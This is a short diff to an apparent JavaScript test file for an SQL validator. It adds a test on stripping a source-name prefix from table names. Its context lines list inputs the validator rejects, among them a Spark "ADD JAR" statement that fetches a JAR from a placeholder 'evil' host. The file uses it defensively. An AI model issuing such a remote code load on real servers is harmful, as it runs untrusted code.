@@ -27,6 +27,14 @@ test("the window's values take the places of their names, and no semicolon is se
   expect(parameters).toEqual(["start"]);
 });
 
+test("a table's name may begin with the source's, which the server does not know", () => {
+  const text = "SELECT farm.features.x FROM farm.features.t AS farm JOIN farm.private.u ON true";
+  const job = { sql: sqlText("features.sql", text), window: null, folders: [], limits };
+  expect(judgeText(job, { name: "farm", schemas: ["features"] }).relation).toBe(
+    "(\nSELECT farm.features.x FROM features.t AS farm JOIN farm.private.u ON true\n)",
+  );
+});
+
 test.each([
   ["ADD JAR 'http://evil/x.jar'", "begins with ADD"],
   ["SET spark.sql.ansi.enabled = false", "begins with SET"],
